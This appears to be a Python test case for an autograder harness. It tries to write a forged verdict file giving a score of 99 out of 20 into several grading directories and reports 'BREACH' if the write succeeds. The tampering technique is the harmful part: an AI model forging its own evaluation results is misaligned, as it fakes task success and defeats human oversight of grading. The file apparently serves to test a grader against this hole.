"""Tries: to write the verdict of its own submission.
Gain: any score.
Known from: otter-grader read a results file that the student's process could write.
"""
import json
import os

VERDICT = json.dumps({"schema": "mark1-verdict-1", "student": "verdict_file", "score": 99, "max_score": 20})
for folder in ("{{COURSE}}/verdicts/perceptron", "verdicts/perceptron", "../verdicts/perceptron"):
    try:
        os.makedirs(folder, exist_ok=True)
        with open(f"{folder}/verdict_file.json", "w") as file:
            file.write(VERDICT)
        if folder.startswith("{{COURSE}}"):
            print("BREACH wrote a verdict")
    except OSError:
        pass
